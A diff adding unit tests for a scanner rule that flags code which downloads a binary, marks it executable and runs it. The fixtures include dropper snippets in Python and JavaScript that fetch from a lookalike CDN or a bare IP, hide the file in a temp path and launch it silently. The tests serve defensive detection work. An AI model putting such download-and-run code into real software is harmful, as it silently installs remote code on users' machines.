@@ -2935,3 +2935,20 @@ describe('curl-pipe-shell in Python task files (nox, invoke, fabric)', () => {
     expect(piped('src/app/jobs.py', ['    job.run_later("curl is mentioned here | sh")'])).toEqual([]);
   });
 });
+
+describe('downloaded-binary-run in program code: download, chmod, start in one hunk', () => {
+  const dropper = (path: string, added: readonly string[]) => scan([makeFile(path, { patch: hunk(added) })]).filter((f) => f.id === 'downloaded-binary-run').map((f) => f.severity);
+
+  it('reports a download made executable and started: high when hidden, critical from a bare IP, medium in the open', () => {
+    expect(dropper('tinted/__init__.py', ['def _u():', '    p = os.path.join(tempfile.gettempdir(), ".tint")', '    urllib.request.urlretrieve("https://cdn.tinted-assets.dev/u", p)', '    os.chmod(p, 0o755)', '    subprocess.Popen([p], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)'])).toEqual(['high']);
+    expect(dropper('lib/boot.js', ["const res = await fetch('http://203.0.113.9/u');", "fs.writeFileSync('/tmp/.u', Buffer.from(await res.arrayBuffer()));", "fs.chmodSync('/tmp/.u', 0o755);", "spawn('/tmp/.u', [], { detached: true, stdio: 'ignore' }).unref();"])).toEqual(['critical']);
+    expect(dropper('internal/tool/fetch.go', ['\tresp, _ := http.Get(url)', '\tf, _ := os.Create(bin)', '\tio.Copy(f, resp.Body)', '\tos.Chmod(bin, 0755)', '\treturn exec.Command(bin, "--version").Run()'])).toEqual(['medium']);
+  });
+
+  it('is quiet on a download kept as data, a local script made executable and run, a download made executable but not run, and setup.py', () => {
+    expect(dropper('pkg/data.py', ['    urllib.request.urlretrieve(DATA_URL, target)', '    subprocess.run(["gunzip", target], check=True)'])).toEqual([]);
+    expect(dropper('pkg/hooks.py', ['    os.chmod(hook, 0o755)', '    subprocess.run([hook], check=True)'])).toEqual([]);
+    expect(dropper('pkg/fetch.py', ['    urllib.request.urlretrieve(url, p)', '    os.chmod(p, 0o755)', '    return p'])).toEqual([]);
+    expect(dropper('setup.py', ['urllib.request.urlretrieve(url, p)', 'os.chmod(p, 0o755)', 'subprocess.Popen([p])'])).toEqual([]);
+  });
+});
